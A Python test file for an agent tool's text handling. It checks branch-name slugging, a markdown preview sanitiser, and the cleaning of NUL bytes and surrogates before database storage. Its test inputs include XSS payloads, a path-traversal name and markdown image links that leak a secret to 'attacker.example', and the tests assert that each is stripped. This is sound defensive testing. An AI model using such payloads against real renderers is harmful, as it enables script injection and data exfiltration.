"""Text rules: branch names from agent names, the markdown preview's sanitiser, untrusted text on its way to the DB."""

from __future__ import annotations

import pytest

from agents.services import MAX_TEXT, clean_payload, clean_text
from agents.text import clean_chars
from agents.views import render_markdown
from agents.worktrees import slug


@pytest.mark.parametrize(
    "name, expected",
    [
        ("Ada", "ada"),
        ("Grace Hopper", "grace-hopper"),
        ("ada_2", "ada-2"),
        ("../../etc/passwd", "etc-passwd"),
        ("--", "agent"),
        ("", "agent"),
        ("x" * 80, "x" * 40),
    ],
)
def test_an_agents_name_becomes_a_safe_branch_and_directory_name(name, expected):
    assert slug(name) == expected


def test_names_that_differ_only_in_case_or_punctuation_share_a_branch():
    assert slug("Ada-Lovelace") == slug("ada_lovelace") == slug("ADA LOVELACE")


@pytest.mark.parametrize(
    "source, forbidden",
    [
        ("<script>alert(1)</script>", "<script"),
        ("![x](https://attacker.example/?q=secret)", "<img"),
        ('<img src="https://attacker.example/pixel">', "<img"),
        ("[click](javascript:alert(1))", "javascript:"),
        ('<a href="https://x.example" onclick="steal()">x</a>', "onclick"),
        ('<p style="position:fixed">overlay</p>', "style"),
        ("<iframe src='https://x.example'></iframe>", "<iframe"),
    ],
)
def test_the_markdown_preview_drops_what_could_act_or_leak(source, forbidden):
    assert forbidden not in render_markdown(source)


def test_the_markdown_preview_keeps_ordinary_formatting():
    html = render_markdown("# Plan\n\n- **read** `stats.py`\n\n```\nmake test\n```\n\n[docs](https://docs.example/x)")
    for kept in (
        "<h1>Plan</h1>",
        "<strong>read</strong>",
        "<code>stats.py</code>",
        "<pre>",
        'href="https://docs.example/x"',
    ):
        assert kept in html


def test_nul_characters_are_replaced_since_postgresql_refuses_them():
    assert clean_text("a\x00b") == "a\ufffdb"


def test_overlong_text_is_cut_and_says_how_much_was_cut():
    cut = clean_text("x" * (MAX_TEXT + 10))
    assert cut.startswith("x" * MAX_TEXT)
    assert cut.endswith("[truncated 10 characters]")


def test_every_string_in_a_payload_is_cleaned_keys_included():
    payload = clean_payload({"out\x00put": ["ok", {"deep": "a\x00"}], "n": 3, "t": ("x\x00",)})
    assert payload == {"out\ufffdput": ["ok", {"deep": "a\ufffd"}], "n": 3, "t": ["x\ufffd"]}


def test_text_no_database_can_hold_is_replaced_character_for_character():
    sent = "ok\x00 \ud800lone surrogate\udfff"
    cleaned = clean_chars(sent)
    assert cleaned == "ok\ufffd \ufffdlone surrogate\ufffd"
    assert len(cleaned) == len(sent)  # size checks still see what was sent
    cleaned.encode("utf-8")  # storable: a lone surrogate could not even be encoded


def test_json_like_data_is_cleaned_all_the_way_down_and_other_values_are_kept():
    data = {"a\x00": [{"b": "\ud83d"}, 3, None, True], 5: ("x\x00",), "ok": 1.5}
    assert clean_chars(data) == {"a\ufffd": [{"b": "\ufffd"}, 3, None, True], "5": ["x\ufffd"], "ok": 1.5}
    assert clean_chars("plain ümlaut ✓ 🐝") == "plain ümlaut ✓ 🐝"
